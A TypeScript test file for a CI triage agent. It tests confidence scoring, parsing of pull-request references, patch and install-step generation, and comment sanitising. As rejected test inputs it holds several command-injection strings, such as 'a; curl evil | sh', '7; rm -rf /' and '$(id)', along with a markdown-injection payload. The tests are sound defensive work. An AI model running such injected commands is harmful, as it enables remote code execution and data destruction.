import fc from 'fast-check'
import {describe, expect, test} from 'vitest'
import triage from '../../../agents/triage.ts'
import type {ActionContext, TriageReport} from '../../../src/sdk/index.ts'
import {commentText} from '../../../src/triage/comment.ts'
import type {Failure} from '../../../src/triage/failure.ts'
import {filesFor, fixFor} from '../../../src/triage/fixes.ts'
import {appended, replacedWord} from '../../../src/triage/patch.ts'
import {referenceIn} from '../../../src/triage/reference.ts'
import {confidenceOf, gradeOf} from '../../../src/triage/score.ts'

const long = 'x'.repeat(121)
const aFailure = (given: Partial<Failure> = {}): Failure => ({
  ...{kind: 'job_failure', tool: 'runner', message: long, evidence: []},
  ...given,
})

describe('confidence', () => {
  test.each<[string, Partial<Failure>, number]>([
    ['nothing known', {}, 50],
    ['what only says that it ended, however long it is', {evidence: ['1', '2', '3', '4', '5']}, 50],
    ['a short message', {message: 'it broke'}, 55],
    ['an exit code, which is no error’s name', {code: 'exit 1'}, 50],
    ['a long context', {kind: 'network', evidence: ['1', '2', '3', '4', '5']}, 63],
    ['four lines are not long', {kind: 'network', evidence: ['1', '2', '3', '4']}, 58],
    ['a kind that is known', {kind: 'network'}, 58],
    ['a clear error', {kind: 'code_error', code: 'TypeError'}, 85],
    ['a file', {kind: 'network', file: 'src/a.ts'}, 63],
    ['a file and a line', {kind: 'network', file: 'src/a.ts', line: 3}, 68],
    ['a line of a test', {kind: 'network', file: 'tests/a.py', line: 3}, 78],
    [
      'never more than all',
      {kind: 'missing_dependency', code: 'TS1', file: 'tests/a.ts', line: 3, message: 'x'},
      100,
    ],
  ])('with %s', (_what, given, points) => {
    expect(confidenceOf(aFailure(given))).toBe(points)
  })

  test.each([
    ['here', 100],
    ['elsewhere', 90],
    ['nowhere', 75],
    [undefined, 70],
  ] as const)('of a module that is imported %s', (imported, points) => {
    expect(
      confidenceOf(aFailure({kind: 'missing_dependency'}), imported === undefined ? {} : {imported}),
    ).toBe(points)
  })

  test.each([
    ['in the registry', {registered: true}, 100],
    ['not in the registry', {registered: false}, 50],
    ['not in the registry, whatever else speaks for it', {imported: 'here', registered: false}, 80],
  ] as const)('of a package that is %s', (_what, sighting, points) => {
    expect(confidenceOf(aFailure({kind: 'missing_dependency'}), sighting)).toBe(points)
  })

  test.each([
    [100, 'quick win'],
    [80, 'quick win'],
    [79, 'medium'],
    [60, 'medium'],
    [59, 'needs review'],
    [0, 'needs review'],
  ])('%i is %s', (points, grade) => {
    expect(gradeOf(points)).toBe(grade)
  })
})

describe('a reference', () => {
  test.each([
    ['7', {kind: 'pull', number: 7}],
    ['9999', {kind: 'pull', number: 9999}],
    [' #12345 ', {kind: 'pull', number: 12345}],
    ['1000000001', {kind: 'run', id: '1000000001'}],
    ['19846849655', {kind: 'run', id: '19846849655'}],
    ['https://github.com/acme/web/pull/7/files', {kind: 'pull', number: 7, repository: 'acme/web'}],
    [
      'https://github.com/acme/web/actions/runs/19846849655/job/3',
      {kind: 'run', id: '19846849655', repository: 'acme/web'},
    ],
  ])('%s', (text, expected) => {
    expect(referenceIn(text)).toMatchObject(expected)
  })

  test.each([
    '0',
    '#0',
    '10000',
    '1000000000',
    '-7',
    '7.5',
    'main',
    '',
    'https://github.com/acme/web',
    'ftp://github.com/acme/web/pull/7',
    'https://me@github.com/acme/web/pull/7',
    '7; rm -rf /',
  ])('%j is none', text => {
    expect(() => referenceIn(text)).toThrow(/Name a pull request/)
  })
})

describe('a fix', () => {
  const fix = (given: Partial<Failure>, files: Readonly<Record<string, string>> = {}) =>
    fixFor(aFailure(given), new Map(Object.entries(files)))

  test('of a misspelt word is a patch of exactly that word', () => {
    const given: Partial<Failure> = {
      ...{kind: 'code_error', tool: 'tsc', file: 'a.ts', line: 2},
      meant: {wrong: 'lenght', right: 'length'},
    }
    expect(fix(given, {'a.ts': 'one\nx.lenght\nthree\n'})).toMatchObject({
      kind: 'patch',
      risk: 'low',
      diff: '--- a/a.ts\n+++ b/a.ts\n@@ -1,3 +1,3 @@\n one\n-x.lenght\n+x.length\n three\n',
      file: {path: 'a.ts', text: 'one\nx.length\nthree\n'},
    })
    // Twice on the line, another line by now, another file: a person has to look.
    for (const files of [
      {'a.ts': 'one\nlenght lenght\n'},
      {'a.ts': 'lenght\nother\n'},
      {'b.ts': 'x\nx.lenght\n'},
    ])
      expect(fix(given, files)).toMatchObject({kind: 'playbook', steps: ['a.ts:2']})
  })

  test('of a Python module is a line of requirements.txt, under the name of its package', () => {
    const given = {kind: 'missing_dependency', tool: 'pytest', subject: 'yaml.loader'} as const
    expect(filesFor(aFailure(given))).toEqual(['requirements.txt'])
    expect(fix(given, {'requirements.txt': 'flask==3.0.0\n'})).toMatchObject({
      kind: 'patch',
      diff: '--- a/requirements.txt\n+++ b/requirements.txt\n@@ -1,1 +1,2 @@\n flask==3.0.0\n+PyYAML\n',
    })
    // What is installed is changed by people alone: no draft of it is offered.
    expect(fix(given, {'requirements.txt': 'flask==3.0.0\n'})).not.toHaveProperty('file')
    expect(fix(given, {'requirements.txt': 'pyyaml>=6\n'}).title).toContain('does not install it')
    expect(fix(given)).toMatchObject({
      kind: 'playbook',
      steps: [expect.stringContaining('PyYAML'), expect.anything()],
    })
  })

  test.each([
    ['left-pad', {}, 'npm install left-pad'],
    ['@acme/ui/button', {}, 'npm install @acme/ui'],
    ['zod/v4', {'package.json': '{"dependencies": {"zod": "4"}}'}, 'npm ci'],
  ])('of the package %s', (subject, files, step) => {
    expect(fix({kind: 'missing_dependency', tool: 'node', subject}, files).steps[0]).toBe(step)
  })

  test('of a package that its registry does not have is to mind its name, never to install it', () => {
    const given: Partial<Failure> = {kind: 'missing_dependency', tool: 'node', subject: 'left-pda'}
    const absent = fixFor(aFailure(given), new Map(), {registered: false})
    expect(absent).toMatchObject({kind: 'playbook', steps: []})
    expect(absent.title).toContain('npm has no package left-pda')
    // What the repository lists may be in a registry of its own.
    const listed = new Map([['package.json', '{"dependencies": {"left-pda": "1"}}']])
    expect(fixFor(aFailure(given), listed, {registered: false}).steps[0]).toBe('npm ci')
    const python: Partial<Failure> = {kind: 'missing_dependency', tool: 'pytest', subject: 'yalm'}
    const sources = new Map([['requirements.txt', 'flask\n']])
    expect(fixFor(aFailure(python), sources, {registered: false}).file).toBeUndefined()
  })

  test.each(['./cart', '../x', 'a; curl evil | sh', '$(id)', '--registry=evil', '`id`', 'a b', '@/x'])(
    'never puts %j into a command',
    subject => {
      for (const tool of ['node', 'pytest'])
        expect(fix({kind: 'missing_dependency', tool, subject}).steps.join()).not.toContain(subject)
    },
  )

  test('never puts the path of a log into a command unless it is a plain one', () => {
    expect(fix({kind: 'lint', file: 'src/a.ts'}).steps).toEqual(['npx eslint --fix src/a.ts'])
    for (const file of ['a.ts; rm x', '$(id).ts', '../a.ts', '-x.ts', 'a b.ts'])
      expect(fix({kind: 'lint', file}).steps).toEqual(['npx eslint --fix .'])
  })
})

describe('a patch', () => {
  test('changes what it says and nothing else, wherever the line is', () => {
    const line = fc.stringMatching(/^[a-z .]{0,12}$/)
    fc.assert(
      fc.property(fc.array(line, {maxLength: 12}), fc.nat(12), fc.boolean(), (others, at, crlf) => {
        const place = Math.min(at, others.length)
        const lines = [...others.slice(0, place), 'x(WRONG)', ...others.slice(place)]
        const end = crlf ? '\r\n' : '\n'
        const patch = replacedWord('a', `${lines.join(end)}${end}`, {
          line: place + 1,
          wrong: 'WRONG',
          right: 'RIGHT',
        })
        const [, , head = '', ...hunk] = patch?.diff.replace(/\n$/, '').split('\n') ?? []
        const [, first = '', length = ''] = /^@@ -(\d+),(\d+) \+\1,\2 @@$/.exec(head) ?? []
        const old = hunk.filter(one => !one.startsWith('+')).map(one => one.slice(1))
        const from = Number(first) - 1
        expect(old.map(one => one.trimEnd())).toEqual(
          lines.slice(from, from + Number(length)).map(one => one.trimEnd()),
        )
        expect(hunk.filter(one => /^[+-]/.test(one))).toEqual(['-x(WRONG)', '+x(RIGHT)'])
        const after = lines.with(place, 'x(RIGHT)')
        expect(patch?.text).toBe(`${after.join(end)}${end}`)
      }),
    )
  })

  test.each([
    ['', '@@ -0,0 +1,1 @@\n+new\n'],
    ['a\n', '@@ -1,1 +1,2 @@\n a\n+new\n'],
    ['a\nb\nc\nd\n', '@@ -2,3 +2,4 @@\n b\n c\n d\n+new\n'],
  ])('adds a line to %j', (text, hunk) => {
    expect(appended('f', text, 'new')).toEqual({diff: `--- a/f\n+++ b/f\n${hunk}`, text: `${text}new\n`})
  })
})

test('a comment holds no mention, no end of its fence and no mark of ours that a log wrote', () => {
  const hostile = '``` @everyone <!-- signalbox:triage --> [click](https://evil.example)'
  const report: TriageReport = {
    ...{repository: 'acme/web', about: '#7', url: 'https://github.com/acme/web/pull/7', pull: 7, sha: 'a'},
    ...{verdict: 'failing', fix: undefined, unread: [], left: 0, explanation: {kind: 'given', text: hostile}},
    runs: [{url: 'https://github.com/acme/web/actions/runs/1', workflow: hostile, conclusion: 'failure'}],
    failures: [
      {
        ...{
          kind: 'test_failure',
          what: 'a test fails',
          tool: 'tests',
          message: hostile,
          evidence: ['``` a', hostile],
        },
        ...{
          confidence: 60,
          grade: 'medium',
          job: {name: hostile, step: hostile, url: 'https://github.com/x'},
        },
      },
    ],
  }
  const text = commentText(report)
  expect(text.match(/^```/gm)).toHaveLength(2)
  const [before = '', , after = ''] = text.split(/^```.*$/m)
  for (const part of [before, after]) {
    expect(part).not.toMatch(/(?<!`[^`]*)@\w/)
    expect(part.replace(/`[^`\n]*`/g, '')).not.toMatch(/<!--|\]\(https/)
  }
})

test.each([
  [['cancelled'], 'was cancelled, and the logs don’t say why', '### ⚪ It was cancelled,'],
  [['failure'], 'fails, and the logs don’t say why', '### 🔴 It fails,'],
  [['cancelled', 'timed_out'], 'fails, and the logs don’t say why', '### 🔴 It fails,'],
])('runs that ended with %j and told nothing are said to be what they are', async (ends, title, headline) => {
  const report: TriageReport = {
    ...{repository: 'acme/web', about: 'run 1', url: 'https://github.com/x', pull: undefined, sha: 'a'},
    ...{verdict: 'failing', failures: [], fix: undefined, unread: [], left: 0, explanation: {kind: 'off'}},
    runs: ends.map(conclusion => ({url: 'https://github.com/x', workflow: 'CI', conclusion})),
  }
  const context = {services: {triage: {investigate: async () => report}}} as unknown as ActionContext
  const result = await triage.actions['triage']?.run({ref: '1', comment: false, draft: false}, context)
  expect(result?.kind === 'replied' && result.reply.title).toBe(`run 1 of acme/web · ${title}`)
  expect(commentText(report)).toContain(headline)
})
